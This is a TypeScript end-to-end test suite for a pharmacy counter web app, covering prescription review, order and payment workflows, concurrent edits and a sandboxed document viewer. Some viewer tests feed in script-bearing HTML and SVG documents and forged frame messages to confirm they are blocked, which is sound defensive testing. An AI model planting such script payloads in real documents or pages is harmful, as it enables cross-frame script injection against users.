import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Frame, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
import { type CounterPage, DESK, PHONE, press, type Screen } from '../../support/counter/counter-page.ts';
import {
  COLLEAGUE,
  type CounterWorld,
  NOON,
  OPERATOR,
  openCounterWorld,
  openTestCounter,
} from '../../support/counter/counter-world.ts';
import { folioOf, forceOrder, placeOrder, storedOrder } from '../../support/counter/placed-orders.ts';
import { drawnPdf, drawnPng, endlessPdf, scannedPdf } from '../../support/counter/prescription-files.ts';
import { sendHttp } from '../../support/http/http.ts';
import { ISSUED, taxDocument } from '../../support/invoices/tax-documents.ts';
import { openTestServer, type TestServer } from '../../support/servers/test-server.ts';

const BLUE = '0 0 1 rg 0 0 612 792 re f';
const RED = '1 0 0 rg 0 0 612 792 re f';

let world: CounterWorld<TestServer>;
let server: TestServer;
/** The page of the cases that leave it as they found it. */
let desk: CounterPage;
/** The page of another operator, at a counter of their own. */
let colleague: CounterPage;
let second: Awaited<ReturnType<typeof openTestCounter>>;
beforeAll(async () => {
  world = await openCounterWorld(openTestServer, NOON);
  server = world.server;
  second = await openTestCounter(COLLEAGUE);
  [desk, colleague] = await Promise.all([world.open(), world.open({ address: second.address })]);
});
afterAll(async () => {
  await second.close();
  await world.close();
});

// A browser says of each answer that is a refusal.
const REFUSED = /responded with a status of (400|409|502) /;

const opened: CounterPage[] = [];
afterEach(async () => {
  for (const { page } of [desk, colleague]) await press(page, 'Escape');
  for (const each of [desk, colleague, ...opened]) {
    expect(each.takeComplaints().filter((said) => !REFUSED.test(said))).toEqual([]);
  }
  for (const each of opened.splice(0)) await each.close();
});

/** Shows an order; a complaint of the console of its page fails the test. */
async function openOrder(id: number, shown = desk): Promise<CounterPage> {
  await shown.page.evaluate(`location.hash = '#/orders/${id}'`);
  await shown.page.getByRole('heading', { name: folioOf(id) }).waitFor();
  await shown.page.getByRole('group', { name: /Acciones|Actions/ }).waitFor();
  return shown;
}

/** Shows an order at both counters. */
const openTogether = (id: number) => Promise.all([openOrder(id), openOrder(id, colleague)]);

/** Opens a page that no other case uses. */
async function openOwnPage(screen: Screen = DESK): Promise<CounterPage> {
  const shown = await world.open({ screen });
  opened.push(shown);
  return shown;
}

/** Adds a prescription to an order, as its client does. */
async function addPrescription(id: number, file: Buffer): Promise<void> {
  const token = await server.login('aseguradora@demo.example');
  const body = { prescriptions: [{ document: file.toString('base64'), issue_date: '2026-11-20' }] };
  expect((await server.request('POST', `/api/orders/${id}/prescriptions/`, { token, body })).status).toBe(201);
}

const dialog = (page: Page, name: string) => page.getByRole('dialog', { name });
const told = (page: Page, text: string) => page.locator('.notice').getByText(text).waitFor();

let documents = 0;
/** Returns a PDF that no other prescription has. */
const newPdf = (...pages: readonly string[]): Buffer =>
  drawnPdf((pages.length > 0 ? pages : [BLUE]).map((page) => `${page} % ${++documents}`));

describe('an order at the counter', { timeout: 60_000 }, () => {
  it('is verified, approved, paid and sent by keys alone', async () => {
    const id = await placeOrder(server, [newPdf()]);
    const { page } = await openOrder(id);
    await press(page, 'v');
    await dialog(page, 'Verificar receta').getByText('Se verifica para: 1 × Ibuprofeno 800 mg').waitFor();
    await press(page, 'Tab', '12345678', 'Enter');
    await dialog(page, 'Verificar receta').getByText('Este campo es obligatorio.').waitFor();
    await press(page, 'Dra. Eva Luna', 'Tab', 'ControlOrMeta+a', '12-34', 'Enter');
    await dialog(page, 'Verificar receta').getByText('Debe ser el número de una cédula').waitFor();
    expect(await page.evaluate('document.activeElement.value')).toBe('12-34');
    await press(page, 'ControlOrMeta+a', '12345678', 'Tab', 'Calle 5, Puebla', 'Enter');
    await told(page, 'verificada.');
    await press(page, 'a', 'Enter');
    await told(page, 'La orden ahora está: Aprobada.');
    await press(page, 'p', 'Tab', '28', 'Enter');
    await told(page, 'Estado del pago: Pagada.');
    for (const status of ['En surtido', 'Lista', 'Enviada', 'Entregada']) {
      await press(page, 'a', 'Enter');
      await told(page, `La orden ahora está: ${status}.`);
    }
    const stored = await storedOrder(id);
    expect(stored).toMatchObject({
      orderStatus: 'delivered',
      paymentStatus: 'paid',
      paymentForm: '28',
      prescriptions: [
        {
          verification: { by: OPERATOR, lines: [{ productId: 4, quantity: 1 }] },
          prescriber: { name: 'Dra. Eva Luna', licence: '12345678', address: 'Calle 5, Puebla' },
        },
      ],
    });
    const byOperator = stored.history.filter(({ by }) => typeof by === 'object' && 'operator' in by);
    expect(byOperator.map(({ what, to }) => to ?? what)).toEqual([
      'prescription_verified',
      'approved',
      'paid',
      'in_process',
      'ready',
      'shipped',
      'delivered',
    ]);
  });

  it('offers what the rules allow, and no more', async () => {
    const { page } = await openOrder(await placeOrder(server, [newPdf()]));
    const actions = page.getByRole('group', { name: 'Acciones' }).getByRole('button');
    expect(await actions.allTextContents()).toEqual([
      'Verificar receta',
      'Rechazar receta',
      'Cambiar estado…',
      'Pago…',
    ]);
    await press(page, 'm');
    expect(await dialog(page, 'Cambiar el estado de la orden').getByRole('option').allTextContents()).toEqual([
      'Cotizada',
      'Cancelada',
    ]);
    await press(page, 'Escape');
    await page.getByText('Verificar receta (1 × Ibuprofeno 800 mg) · Pago').waitFor();
  });

  it('has a prescription rejected with a reason, which is asked for', async () => {
    const id = await placeOrder(server, [newPdf()]);
    const { page, expectFit } = await openOrder(id, await openOwnPage({ ...PHONE, theme: 'dark', language: 'en' }));
    await press(page, 'x', 'Enter');
    await dialog(page, 'Reject prescription').getByText('Check the marked fields.').waitFor();
    await expectFit();
    await press(page, 'Sin firma', 'Enter');
    await told(page, 'is rejected.');
    await page.getByText('Rejected: Sin firma', { exact: true }).waitFor();
    expect((await storedOrder(id)).prescriptions[0]?.rejection).toMatchObject({ by: OPERATOR, reason: 'Sin firma' });
  });

  it('tells the prescriptions apart that are judged, and takes the focus when the button of what was done is gone', async () => {
    const id = await placeOrder(server, [newPdf(), newPdf()]);
    const [first, second] = (await storedOrder(id)).prescriptions.map((each) => each.id);
    const { page } = await openOrder(id);
    await press(page, 'v', 'Enter');
    await told(page, `Receta ${first} verificada.`);
    await page.getByRole('button', { name: 'Rechazar receta' }).focus();
    const named = (name: string) => page.getByRole('button', { name, exact: true });
    for (const name of [`Verificada: Receta ${first}`, `Receta ${second}`]) await named(name).waitFor();
    await press(page, 'Enter', 'Sin firma', 'Enter');
    await told(page, `Receta ${second} rechazada.`);
    await named(`Rechazada: Receta ${second}`).waitFor();
    await expect.poll(() => page.evaluate('document.activeElement.tagName')).toBe('H1');
  });

  it('has the prescription judged next that has come for a rejected one, by its number', async () => {
    const id = await placeOrder(server, [newPdf()]);
    const { page } = await openOrder(id);
    await press(page, 'x', 'Sin firma', 'Enter');
    await told(page, 'rechazada.');
    await addPrescription(id, newPdf());
    const [first, second] = (await storedOrder(id)).prescriptions.map((each) => each.id);
    await page.evaluate(`document.dispatchEvent(new Event('visibilitychange'))`);
    await page.getByRole('button', { name: 'Mostrar la orden como está ahora' }).waitFor();
    await press(page, 'u');
    await page.getByRole('heading', { name: `Receta ${second}` }).waitFor();
    await press(page, 'v');
    await dialog(page, `Verificar receta ${second}`).waitFor();
    await press(page, 'Enter');
    await told(page, `Receta ${second} verificada.`);
    const judged = (await storedOrder(id)).prescriptions.map(({ verification }) => verification !== null);
    expect(judged).toEqual([false, true]);
    // One that is looked at again stays in view, whatever else is done.
    await press(page, 's', 'p', 'Tab', '28', 'Enter');
    await told(page, 'Estado del pago: Pagada.');
    await page.getByRole('heading', { name: `Receta ${first}` }).waitFor();
  });

  it('keeps the prescription in view that is being judged', async () => {
    const id = await placeOrder(server, [newPdf(), newPdf()]);
    const [first, second] = (await storedOrder(id)).prescriptions.map((each) => each.id);
    const { page } = await openOrder(id);
    const shown = page.getByRole('heading', { name: `Receta ${first}`, exact: true });
    await press(page, 'v');
    await page.getByRole('button', { name: 'Acercar' }).focus();
    await press(page, 's', 'x', 'a', 'm', '2');
    await page.getByRole('button', { name: `Receta ${second}` }).click({ force: true });
    await page.getByRole('button', { name: 'Cambiar estado…' }).click({ force: true });
    await dialog(page, `Verificar receta ${first}`).waitFor();
    expect([await shown.count(), await page.getByRole('dialog').count()]).toEqual([1, 1]);
    await press(page, 'Escape', 's');
    await page.getByRole('heading', { name: `Receta ${second}` }).waitFor();
  });

  it('has people by their names, phones and amounts as Mexico writes them, and the comments of the client alone', async () => {
    const id = await placeOrder(server, [newPdf()]);
    await forceOrder(id, { paymentStatus: 'paid', paymentForm: '03', comments: 'Tocar dos veces' });
    const { page } = await openOrder(id);
    await press(page, 'x', 'Sin firma', 'Enter');
    await told(page, 'rechazada.');
    await press(page, 'd', 'ControlOrMeta+a', '7.5', 'Enter');
    await told(page, 'Reembolso de $7.50 registrado.');
    await page.getByRole('row', { name: /Reembolso: \$0\.00 → \$7\.50 Eva Farmacéutica$/ }).waitFor();
    await page.getByRole('row', { name: /Creada Tomás Vega Luna$/ }).waitFor();
    await page.getByText('06700 Ciudad de México, CDMX, 55 5555 0199, Timbre azul').waitFor();
    await page.getByText('Tocar dos veces', { exact: true }).waitFor();
  });

  it('has an old prescription verified only by who accepts its age', async () => {
    const id = await placeOrder(server, [newPdf()]);
    const { prescriptions } = await storedOrder(id);
    await forceOrder(id, { prescriptions: prescriptions.map((each) => ({ ...each, issueDate: '2026-01-01' })) });
    const { page } = await openOrder(id);
    await press(page, 'v', 'Enter');
    await dialog(page, 'Verificar receta').getByText('Se expidió hace más tiempo del permitido:').waitFor();
    await press(page, 'Tab', 'Tab', 'Tab', ' ', 'Enter');
    await told(page, 'verificada.');
    expect((await storedOrder(id)).prescriptions[0]?.verification).toMatchObject({ isAgeAccepted: true });
  });

  it('says what is needed to prepare and ship it, also on paper', async () => {
    const id = await placeOrder(server, [], 'luz@example.mx', { coupon: 'BIENVENIDA10' });
    const { shippingMethod } = await storedOrder(id);
    await forceOrder(id, { shippingMethod: { ...shippingMethod, method: 'express' } });
    const { page } = await openOrder(id);
    await page.emulateMedia({ media: 'print' });
    onTestFinished(() => page.emulateMedia({ media: null }));
    const facts = await page.locator('.facts:visible').allInnerTexts();
    expect(facts.join('\n').split('\n')).toEqual(
      expect.arrayContaining([
        ...['Cliente', 'demo (1)'],
        ...['Envío por', 'Paquetería Andariega, exprés'],
        ...['A más tardar', '30 nov 2026'],
        ...['Cupón', 'BIENVENIDA10, 10 % de descuento en la compra'],
      ]),
    );
    await page.getByRole('row', { name: /^Paracetamol 500 mg.* Código de barras 7509999000013 1 / }).waitFor();
  });

  it('is printed as a plain sheet, without what leads elsewhere or acts', async () => {
    const { page } = await openOrder(await placeOrder(server));
    await page.getByRole('combobox', { name: 'Colores' }).selectOption('Oscuros');
    await page.emulateMedia({ media: 'print' });
    expect(await page.locator('h1').isVisible()).toBe(true);
    expect(await page.locator('header, button, .viewer').filter({ visible: true }).count()).toBe(0);
    const colours =
      '({ ground: getComputedStyle(document.documentElement).backgroundColor, ' +
      "text: getComputedStyle(document.querySelector('.facts dd')).color, " +
      "card: getComputedStyle(document.querySelector('.card')).backgroundColor })";
    expect(await page.evaluate(colours)).toEqual({
      ground: 'rgb(255, 255, 255)',
      text: 'rgb(0, 0, 0)',
      card: 'rgb(255, 255, 255)',
    });
    await page.emulateMedia({ media: null });
    await page.getByRole('combobox', { name: 'Colores' }).selectOption('Del sistema');
  });

  it('has its money refunded up to what was paid', async () => {
    const id = await placeOrder(server);
    await forceOrder(id, { paymentStatus: 'paid', paymentForm: '03' });
    const { page, expectFit } = await openOrder(id);
    await press(page, 'd');
    await dialog(page, 'Reembolsar').getByText('A lo más $107.50').waitFor();
    await press(page, 'ControlOrMeta+a', '107.51', 'Enter');
    await dialog(page, 'Reembolsar').getByText(`De la orden ${id} quedan 107.50 pesos por devolver.`).waitFor();
    await expectFit();
    expect(await page.locator('[aria-invalid]').inputValue()).toBe('107.51');
    await press(page, 'ControlOrMeta+a', '7.50', 'Enter');
    await told(page, 'Reembolso de $7.50 registrado.');
    expect((await storedOrder(id)).refunds).toMatchObject([{ cents: 750, form: '03' }]);
  });

  it('gets a credit note of its invoice', async () => {
    const id = await placeOrder(server);
    const { stamp, id: providerId } = ISSUED;
    const invoice = taxDocument({ status: 'issued', stamp, providerId, amountCents: 10_750 });
    await forceOrder(id, { invoice, cfdi: providerId });
    const { page } = await openOrder(id);
    await press(page, 'f');
    expect(await dialog(page, 'Qué hacer con la factura').getByRole('button').allTextContents()).toEqual([
      '×',
      'Sustituir la factura',
      'Enviar de nuevo el correo',
      'Nota de crédito',
    ]);
    await press(page, 'Tab', 'Tab', 'Enter');
    await dialog(page, 'Nota de crédito').getByText('A lo más $107.50').waitFor();
    await press(page, 'ControlOrMeta+a', '50.00', 'Enter');
    await told(page, 'Nota de crédito: hecho.');
    expect((await storedOrder(id)).documents).toMatchObject([{ kind: 'credit', amountCents: 5_000 }]);
    await page.getByRole('row', { name: /Nota de crédito por intentarse de nuevo \$50.00/ }).waitFor();
  });

  it('names the orders that have the same document', async () => {
    const file = newPdf();
    const first = await placeOrder(server, [file]);
    const second = await placeOrder(server, [file]);
    const before = await openOrder(first);
    await press(before.page, 'v', 'Enter');
    await told(before.page, 'verificada.');
    const { page } = await openOrder(second);
    await press(page, 'v', 'Enter');
    const link = page.getByRole('link', { name: `orden ${first}, receta` });
    expect(await link.getAttribute('href')).toBe(`#/orders/${first}`);
    const spoken = new RegExp(`verificada. El documento de la receta \\d+ está también en: orden ${first}, receta`);
    await page.locator('.for-screen-readers[aria-live]').getByText(spoken).waitFor();
    // The next step does not take the warning away.
    await press(page, 'a', 'Enter');
    await told(page, 'La orden ahora está: Aprobada.');
    expect(await link.count()).toBe(1);
  });

  it('is not cancelled unless that is chosen, though nothing else is possible', async () => {
    const id = await placeOrder(server, [newPdf()]);
    await forceOrder(id, { orderStatus: 'shortage' });
    const { page } = await openOrder(id);
    const form = dialog(page, 'Cambiar el estado de la orden');
    await press(page, 'm', 'Enter');
    await form.getByRole('alert').getByText('Elija el nuevo estado.').waitFor();
    expect((await storedOrder(id)).orderStatus).toBe('shortage');
    await press(page, 'ArrowDown');
    await form.getByText('Una orden cancelada queda así').waitFor();
    await press(page, 'Enter');
    await told(page, 'La orden ahora está: Cancelada.');
    expect((await storedOrder(id)).orderStatus).toBe('cancelled');
  });

  it('keeps what a colleague has corrected of the prescriber while another verifies anew', async () => {
    const id = await placeOrder(server, [newPdf()]);
    const [{ page: eva }, { page: luis }] = await openTogether(id);
    await press(luis, 'v', 'Dr. Juan Ríos', 'Tab', '11111111', 'Enter');
    await told(luis, 'verificada.');
    await eva.reload();
    await openOrder(id);
    await press(eva, 'v');
    await dialog(eva, 'Verificar receta').waitFor();
    await press(luis, 'v', 'ControlOrMeta+a', 'Dra. Ana Ruiz', 'Tab', '22222222', 'Enter');
    await luis.getByText('Dra. Ana Ruiz, cédula 22222222').first().waitFor();
    await eva.evaluate(`document.dispatchEvent(new Event('visibilitychange'))`);
    await eva.getByRole('button', { name: 'Mostrar la orden como está ahora' }).click();
    const form = dialog(eva, 'Verificar receta');
    await form.getByLabel('Domicilio de quien prescribe').fill('Calle 9, Puebla');
    await press(eva, 'Enter');
    await told(eva, 'verificada.');
    const corrected = { name: 'Dra. Ana Ruiz', licence: '22222222', address: 'Calle 9, Puebla' };
    expect((await storedOrder(id)).prescriptions[0]?.prescriber).toEqual(corrected);
    // Emptied fields do not take the recorded prescriber away.
    await press(eva, 'v');
    for (const field of ['Nombre de quien prescribe', 'Cédula profesional', 'Domicilio de quien prescribe'])
      await form.getByLabel(field).fill('');
    await press(eva, 'Enter');
    await form.getByText('Quien prescribe ya está anotado: escriba a quién anotar en su lugar.').first().waitFor();
    expect((await storedOrder(id)).prescriptions[0]?.prescriber).toEqual(corrected);
  });

  it('is changed by two people, of whom the second sees it and loses nothing that they typed', async () => {
    const id = await placeOrder(server, [newPdf()]);
    const [{ page: eva }, { page: luis }] = await openTogether(id);
    await press(luis, 'x', 'Sin firma');
    await press(eva, 'v', 'Enter');
    await told(eva, 'verificada.');
    await press(luis, 'Enter');
    await dialog(luis, 'Rechazar receta')
      .getByText(/^Receta verificada: \d+ \(Eva Farmacéutica\)$/)
      .waitFor();
    expect(await dialog(luis, 'Rechazar receta').getByLabel('Motivo').inputValue()).toBe('Sin firma');
    expect((await storedOrder(id)).prescriptions[0]?.rejection).toBeNull();
    await press(luis, 'Enter');
    await told(luis, 'rechazada.');
    // The first one learns of it by themselves, and keeps the focus.
    await eva.getByRole('button', { name: 'Cambiar estado…' }).focus();
    await eva.evaluate(`document.dispatchEvent(new Event('visibilitychange'))`);
    await eva.getByText(/^Receta rechazada: \d+: Sin firma \(Luis Químico\)$/).waitFor();
    expect(await eva.evaluate('document.activeElement.textContent')).toBe('Cambiar estado…');
    await eva.getByText('Verificada, ').waitFor();
    await press(eva, 'u');
    await eva.getByText('Rechazada: Sin firma', { exact: true }).waitFor();
    await eva.getByRole('row', { name: /Receta verificada: \d+ Eva Farmacéutica$/ }).waitFor();
    await eva.getByRole('row', { name: /Receta rechazada: \d+: Sin firma Luis Químico$/ }).waitFor();
  });

  it('has the step taken that was asked for or none, when somebody else was faster', async () => {
    const id = await placeOrder(server);
    await forceOrder(id, { orderStatus: 'pending_approval' });
    const [{ page: eva, expectFit }, { page: luis }] = await openTogether(id);
    await press(eva, 'a');
    await press(luis, 'a', 'Enter');
    await told(luis, 'La orden ahora está: Aprobada.');
    await press(eva, 'Enter');
    const form = dialog(eva, 'Aprobar');
    await form.getByText('La orden, como está ahora, ya no lo permite').waitFor();
    await form.getByText('Estado: Por aprobar → Aprobada (Luis Químico)').waitFor();
    expect(await form.getByRole('button', { name: 'Aprobar' }).isDisabled()).toBe(true);
    await expectFit();
    await press(eva, 'Enter', 'Escape', 'a');
    await dialog(eva, 'Surtir').getByText('Aprobada → En surtido').waitFor();
    await press(eva, 'Enter');
    await told(eva, 'La orden ahora está: En surtido.');
    const moves = (await storedOrder(id)).history.filter(({ what, by }) => what === 'moved' && by !== 'system');
    expect(moves.map(({ to, by }) => [to, by])).toEqual([
      ['approved', { operator: COLLEAGUE }],
      ['in_process', { operator: OPERATOR }],
    ]);
  });

  it('keeps the status that was chosen until another one is, when somebody else has moved the order', async () => {
    const id = await placeOrder(server);
    await forceOrder(id, { orderStatus: 'approved' });
    const [{ page: eva, expectFit }, { page: luis }] = await openTogether(id);
    await press(eva, 'm');
    await press(luis, 'a', 'Enter');
    await told(luis, 'La orden ahora está: En surtido.');
    await press(eva, 'Enter');
    const form = dialog(eva, 'Cambiar el estado de la orden');
    const status = form.getByLabel('Nuevo estado');
    await form.getByText('ya no lo permite').waitFor();
    expect(await status.locator('option:checked').textContent()).toBe('Cotizada');
    await expectFit();
    await press(eva, 'Enter');
    await status.selectOption('Con faltantes');
    await form.getByText('ya no lo permite').waitFor({ state: 'detached' });
    await press(eva, 'Enter');
    await told(eva, 'La orden ahora está: Con faltantes.');
    const moves = (await storedOrder(id)).history.flatMap(({ what, to }) => (what === 'moved' ? [to] : []));
    expect(moves).toEqual(['in_process', 'shortage']);
  });

  it('is not unpaid by who wrote that it is paid, when somebody else has rejected the payment', async () => {
    const id = await placeOrder(server);
    await forceOrder(id, { paymentStatus: 'processing' });
    const [{ page: eva, expectFit }, { page: luis }] = await openTogether(id);
    await press(eva, 'p', 'Tab', '28');
    await press(luis, 'p');
    await dialog(luis, 'Cambiar el estado del pago').getByLabel('Nuevo estado').selectOption('Pago rechazado');
    await press(luis, 'Tab', 'Sin fondos', 'Enter');
    await told(luis, 'Estado del pago: Pago rechazado.');
    await press(eva, 'Enter');
    const form = dialog(eva, 'Cambiar el estado del pago');
    await form.getByText(/^Pago: Pago por confirmar → Pago rechazado.* \(Luis Químico\)$/).waitFor();
    expect(await form.getByLabel('Nuevo estado').locator('option:checked').textContent()).toBe('Pagada');
    expect(await form.getByLabel('Forma de pago').inputValue()).toBe('28');
    expect(await form.getByRole('button', { name: 'Cambiar el estado' }).isDisabled()).toBe(true);
    await expectFit();
    await press(eva, 'Enter', 'Escape');
    await form.waitFor({ state: 'detached' });
    expect((await storedOrder(id)).paymentStatus).toBe('rejected');
  });

  it('keeps a form that is being sent, which then says what came of it', async () => {
    const id = await placeOrder(server);
    const { page } = await openOrder(id);
    const { promise: isChanged, resolve: goOn } = Promise.withResolvers<void>();
    await page.route('**/commands/orders-move', (route) => isChanged.then(() => route.continue()));
    onTestFinished(() => page.unrouteAll());
    await press(page, 'a', 'Enter');
    const form = dialog(page, 'Surtir');
    await form.locator('[aria-busy=true]').waitFor();
    // A browser closes a dialog on the second Escape without asking.
    await press(page, 'Escape', 'Escape');
    for (const name of ['Cerrar', 'No hacer nada']) await form.getByRole('button', { name }).click({ force: true });
    await forceOrder(id, { comments: 'Tocar dos veces' });
    goOn();
    await form.getByText('La orden cambió entretanto').waitFor();
    await press(page, 'Escape');
    await form.waitFor({ state: 'detached' });
  });

  it('takes one step for an Enter, however long it is held', async () => {
    const id = await placeOrder(server);
    const { page } = await openOrder(id);
    const hold = async () => {
      for (let times = 0; times < 5; times += 1) await page.keyboard.down('Enter');
    };
    await page.getByRole('button', { name: 'Surtir' }).focus();
    await hold();
    await page.keyboard.up('Enter');
    expect(await dialog(page, 'Surtir').locator('[aria-busy=true]').count()).toBe(0);
    await hold();
    await told(page, 'La orden ahora está: En surtido.');
    await hold();
    await page.keyboard.up('Enter');
    expect(await page.getByRole('dialog').count()).toBe(0);
    await press(page, 'Enter');
    await dialog(page, 'Marcar lista').waitFor();
    expect((await storedOrder(id)).orderStatus).toBe('in_process');
  });

  it.each([
    ['beside the form on a desk', DESK, 400],
    ['above the form on a phone', PHONE, 330],
  ] as const)('has its prescription read %s that asks what it says', async (_, screen, height) => {
    const { page } = await openOrder(await placeOrder(server, [newPdf(BLUE, RED)]), await openOwnPage(screen));
    const frame = await drawnFrame(page, 'página 1 de 2');
    const before = await page.evaluate('scrollY');
    await page.getByRole('button', { name: 'Verificar receta' }).focus();
    await press(page, 'v', 'Dra. Eva Luna');
    const [form, paper] = await Promise.all([
      page.getByRole('dialog').boundingBox(),
      page.locator('iframe').boundingBox(),
    ]);
    if (!form || !paper) throw new Error('a box is missing');
    const isBeside = form.x + form.width <= paper.x;
    const end = Math.min(paper.y + paper.height, isBeside ? screen.height : form.y);
    expect(end - Math.max(0, paper.y)).toBeGreaterThan(height);
    await page.getByRole('button', { name: 'Acercar' }).click();
    await expect.poll(() => frame.evaluate(`document.querySelector('canvas').style.width`)).toBe('150%');
    await page.mouse.move(paper.x + 50, paper.y + 50);
    await page.mouse.wheel(0, 120);
    await expect.poll(() => frame.evaluate('scrollY')).toBeGreaterThan(0);
    await page.getByLabel('Domicilio de quien prescribe').focus();
    const focused = () => page.evaluate('document.activeElement.title || document.activeElement.textContent');
    while ((await focused()) !== 'Página siguiente') await press(page, 'Tab');
    await press(page, 'Enter');
    await drawnFrame(page, 'página 2 de 2');
    await press(page, 'ArrowLeft');
    await drawnFrame(page, 'página 1 de 2');
    while ((await focused()) !== (await page.locator('iframe').getAttribute('title'))) await press(page, 'Tab');
    const scrolled = Number(await frame.evaluate('scrollY'));
    const scroll = () => press(page, 'ArrowUp').then(() => frame.evaluate('scrollY'));
    await expect.poll(scroll).toBeLessThan(scrolled);
    expect(await page.getByLabel('Nombre de quien prescribe').inputValue()).toBe('Dra. Eva Luna');
    await press(page, 'Escape');
    await page.getByRole('dialog').waitFor({ state: 'detached' });
    expect([await focused(), await page.evaluate('scrollY')]).toEqual(['Verificar receta', before]);
  });

  it.each([
    ['on a desk, light, in Spanish', DESK],
    ['on a phone, dark, in English', { ...PHONE, theme: 'dark', language: 'en' }],
  ] as const)('is accessible and fits the screen, with its dialogs: %s', async (_, screen) => {
    const { page, expectFit } = await openOrder(
      await placeOrder(server, [newPdf(), newPdf()]),
      await openOwnPage(screen),
    );
    await expectFit();
    await press(page, 'v');
    await page.getByRole('dialog').waitFor();
    await expectFit();
  });
});

/** Gives the page this in place of every document, until the case is over. */
async function replaceDocuments(body: Buffer): Promise<void> {
  await desk.page.route('**/documents/**', (route) => route.fulfill({ body, contentType: 'text/html' }));
  onTestFinished(() => desk.page.unrouteAll());
}

/** Returns the frame of the viewer once it has drawn this. */
async function drawnFrame(page: Page, label: string): Promise<Frame> {
  await page.frameLocator('iframe').getByRole('img', { name: label }).waitFor();
  const frame = page.frames().find((each) => each.url().endsWith('/viewer.html'));
  if (!frame) throw new Error('no frame');
  return frame;
}

/** Clicks into the frame until it gets the keys, which a browser gives it a moment later, and only in the page in front. */
async function enterFrame(page: Page, frame: Frame): Promise<void> {
  await frame.evaluate(`isHeard = false; addEventListener('keydown', () => { isHeard = true; }, { once: true })`);
  await page.bringToFront();
  const click = async () => {
    await page.locator('iframe').click();
    await page.keyboard.press('Shift');
    return frame.evaluate('isHeard');
  };
  await expect.poll(click).toBe(true);
}

/** Returns red, green and blue in the middle of what is drawn, and whether it is wide or high. */
const middleOf = (frame: Frame): Promise<readonly [string, string]> =>
  frame.evaluate(`(() => {
    const canvas = document.querySelector('canvas');
    const { width, height } = canvas;
    const copy = new OffscreenCanvas(1, 1).getContext('2d');
    copy.drawImage(canvas, -width / 2, -height / 2);
    const { data } = copy.getImageData(0, 0, 1, 1);
    return [data.slice(0, 3).join(' '), width > height ? 'wide' : 'high'];
  })()`);

describe('a prescription at the counter', { timeout: 60_000 }, () => {
  it('is drawn page by page if it is a PDF, by keys', async () => {
    const id = await placeOrder(server, [newPdf(BLUE, RED)]);
    const { page } = await openOrder(id);
    const name = `Receta ${(await storedOrder(id)).prescriptions[0]?.id}`;
    const frame = await drawnFrame(page, `${name}, página 1 de 2`);
    expect(await middleOf(frame)).toEqual(['0 0 255', 'high']);
    await press(page, 'ArrowRight');
    await drawnFrame(page, `${name}, página 2 de 2`);
    await expect.poll(() => middleOf(frame)).toEqual(['255 0 0', 'high']);
    await press(page, 'r');
    await expect.poll(() => middleOf(frame)).toEqual(['255 0 0', 'wide']);
    const width = () => frame.evaluate(`document.querySelector('canvas').style.width`);
    await page.keyboard.press('+');
    await expect.poll(width).toBe('150%');
  });

  it('is looked at and judged by the same keys while its frame has the focus, which Escape leaves', async () => {
    const id = await placeOrder(server, [newPdf(BLUE, RED)]);
    const { page } = await openOrder(id);
    const frame = await drawnFrame(page, 'página 1 de 2');
    await enterFrame(page, frame);
    await press(page, 'ArrowRight');
    await drawnFrame(page, 'página 2 de 2');
    await press(page, '+');
    await expect.poll(() => frame.evaluate(`document.querySelector('canvas').style.width`)).toBe('150%');
    // The arrow keys scroll a page that is wider than the frame, before they turn to the next page. The browser scrolls as far
    // as what it has painted.
    await frame.evaluate('new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)))');
    await press(page, 'ArrowRight');
    await expect.poll(() => frame.evaluate('scrollX')).toBeGreaterThan(0);
    await press(page, 'v');
    await dialog(page, 'Verificar receta').waitFor();
    await enterFrame(page, frame);
    await press(page, 'Escape');
    await page.getByRole('dialog').waitFor({ state: 'detached' });
    await enterFrame(page, frame);
    await press(page, 'm', 'Escape');
    await expect.poll(() => page.evaluate('document.activeElement.tagName')).toBe('BODY');
    await press(page, 'm');
    await dialog(page, 'Cambiar el estado de la orden').waitFor();
  });

  it('has the page do nothing but what its reader has pressed in it, whatever its frame says', async () => {
    const { page } = await openOrder(await placeOrder(server, [newPdf()]));
    const frame = await drawnFrame(page, 'página 1 de 1');
    const say = (...messages: readonly unknown[]) =>
      frame.evaluate(`${JSON.stringify(messages)}.forEach((message) => parent.postMessage(message, '*'))`);
    const key = (named: unknown) => ({ kind: 'key', key: named });
    // Without the focus, nobody has pressed a key in it.
    await say(key('v'), key('x'));
    await page.evaluate(`postMessage(${JSON.stringify(key('v'))}, '*')`);
    await enterFrame(page, frame);
    await say(null, 'v', 7, [], { kind: 'run', key: 'v' }, key(['v']), key('V'), key('toString'), key(null));
    await say(...['a', 'm', 'p', 'd', 'f', 'u', '1', '2', '/', 'Enter', 'Tab', ' '].map(key));
    await say({ kind: 'opened', pages: '9' }, { kind: 'opened', pages: -1 }, { kind: 'opened' });
    // The messages come in their order.
    await say(key('?'));
    await dialog(page, 'Atajos de teclado').waitFor();
    expect(await page.getByRole('dialog').count()).toBe(1);
    await page.getByText('Página 1 de 1').waitFor();
    expect(new URL(page.url()).hash).toMatch(/^#\/orders/);
  });

  it('is drawn if it is a picture', async () => {
    const { page } = await openOrder(await placeOrder(server, [drawnPng(300, 200, [200, 30, 30])]));
    const frame = await drawnFrame(page, 'página 1 de 1');
    expect(await middleOf(frame)).toEqual(['200 30 30', 'wide']);
    await press(page, 'r');
    await expect.poll(() => middleOf(frame)).toEqual(['200 30 30', 'high']);
  });

  it.each([
    ['a page of HTML', '<script>parent.document.title = "in"</script>'],
    [
      'an SVG with a script',
      '<svg xmlns="http://www.w3.org/2000/svg"><script>parent.postMessage("in", "*")</script></svg>',
    ],
    ['a PDF that is cut off', '%PDF-1.4\n1 0 obj<</Type/Cat'],
    ['a PDF without pages', '%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n'],
    ['a PNG of nothing', '\x89PNG\r\n\x1a\n'],
  ])('says so if it cannot be drawn: %s', async (_, document) => {
    const id = await placeOrder(server, [newPdf()]);
    await replaceDocuments(Buffer.from(document, 'latin1'));
    const { page } = await openOrder(id);
    await page.getByRole('alert').getByText('El documento no se puede mostrar').waitFor();
    expect(await page.title()).toBe(`Orden ${folioOf(id)} · Botica`);
  });

  it('is asked for again by a button, after it could not be read', async () => {
    const { page } = desk;
    const json = { code: 'unreachable', es: 'S3 no responde.', en: 'S3 does not answer.' };
